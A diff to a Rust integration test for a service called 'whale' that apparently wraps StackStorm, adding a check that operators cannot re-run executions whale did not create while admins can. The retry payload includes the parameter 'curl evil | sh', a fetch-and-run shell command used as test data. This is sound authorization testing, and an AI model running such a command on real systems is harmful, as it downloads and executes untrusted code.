@@ -156,7 +156,7 @@ fn layer_refused(code: u16, body: &Value) -> bool {
 struct Stack {
     env: Env,
     _redis: RedisServer,
-    _st2: Emulator,
+    st2: Emulator,
     _dir: tempfile::TempDir,
     _w: Worker,
 }
@@ -192,7 +192,7 @@ async fn stack(http_token: bool) -> Stack {
     Stack {
         env,
         _redis: redis,
-        _st2: st2,
+        st2,
         _dir: dir,
         _w: w,
     }
@@ -465,4 +465,51 @@ impl Drop for Killed {
         let _ = self.0.kill();
         let _ = self.0.wait();
     }
+}
+
+/// Issue 13 "exec actions only on executions whale created": an operator cannot re-run an
+/// execution whale has no record of (StackStorm is not called); an admin can.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn operators_act_only_on_executions_whale_created() {
+    let s = stack(false).await;
+    let http = reqwest::Client::new();
+    let foreign: Value = http
+        .post(format!("{}/api/v1/executions", s.st2.url))
+        .header("St2-Api-Key", "k")
+        .json(&json!({"action": "core.local", "parameters": {"cmd": "uptime"}}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let id = foreign["id"]
+        .as_str()
+        .expect("emulator execution id")
+        .to_owned();
+    let before = s.st2.created().await;
+    let retry = |t: &'static str| {
+        http.post(s.env.http(&format!("/v1/executions/{id}/retry")))
+            .header("authorization", format!("Bearer {t}"))
+            .json(&json!({"parameters": {"cmd": "curl evil | sh"}}))
+            .send()
+    };
+    let r = retry(token(Role::Operator)).await.unwrap();
+    assert_eq!(r.status(), 403);
+    let body: Value = r.json().await.unwrap();
+    assert!(
+        body["error"]
+            .as_str()
+            .unwrap()
+            .contains("not an execution whale created"),
+        "{body}"
+    );
+    assert_eq!(s.st2.created().await, before, "StackStorm was not called");
+    let r = retry(token(Role::Admin)).await.unwrap();
+    assert_eq!(r.status(), 200, "admin may act on any execution");
+    assert_eq!(
+        s.st2.created().await,
+        before + 1,
+        "the admin's re-run reached StackStorm"
+    );
 }
